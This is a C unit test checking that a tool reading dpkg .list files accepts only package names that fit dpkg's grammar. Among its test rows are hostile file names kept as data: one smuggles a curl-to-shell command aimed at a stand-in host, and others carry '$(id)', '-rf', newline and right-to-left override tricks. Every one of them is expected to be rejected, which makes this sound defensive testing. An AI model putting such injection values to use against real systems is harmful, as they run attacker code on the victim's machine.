/* SPDX-License-Identifier: Apache-2.0 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>

#include "base/arena.h"
#include "base/file.h"
#include "symbols/names/packages.h"
#include "unit.h"

static char root[] = "/tmp/heldup-unit.XXXXXX";

static void list_make(const char *name, const char *text)
{
	char path[512];
	int fd;

	snprintf(path, sizeof(path), "%s/var/lib/dpkg/info/%s", root, name);
	fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
	OK(fd >= 0);
	OK(file_write_all(fd, text, strlen(text)) == 0);
	close(fd);
}

TEST(packages_take_names_of_dpkg_s_grammar_only)
{
	static const struct {
		const char *list, *package;
	} rows[] = {
		{"libc6:amd64.list", "libc6"},
		{"g++-12.list", "g++-12"},
		{"python3.11.list", "python3.11"},
		{"x;curl evil.example|sh;#.list", ""},
		{"x curl.list", ""},
		{"$(id).list", ""},
		{"-rf.list", ""},
		{".hidden.list", ""},
		{"Upper.list", ""},
		{"x.list", ""},
		{"a\nb.list", ""},
		{"a\xe2\x80\xae.list", ""},
		{":amd64.list", ""},
	};
	const char *paths[sizeof(rows) / sizeof(rows[0])], **names;
	struct arena a = {0};
	char text[512];

	OK(mkdtemp(root));
	snprintf(text, sizeof(text), "mkdir -p %s/var/lib/dpkg/info", root);
	EQ_I(system(text), 0);
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		snprintf(text, sizeof(text), "/lib/%zu.so", i);
		paths[i] = arena_strdup(&a, text);
		snprintf(text, sizeof(text), "/lib\n/lib/%zu.so\n", i);
		list_make(rows[i].list, text);
	}
	EQ_I(packages_find(root, paths, sizeof(rows) / sizeof(rows[0]), &a, &names), 0);
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		ROW(i);
		EQ_S(names[i], rows[i].package);
	}
	arena_release(&a);
	snprintf(text, sizeof(text), "rm -r %s", root);
	EQ_I(system(text), 0);
}
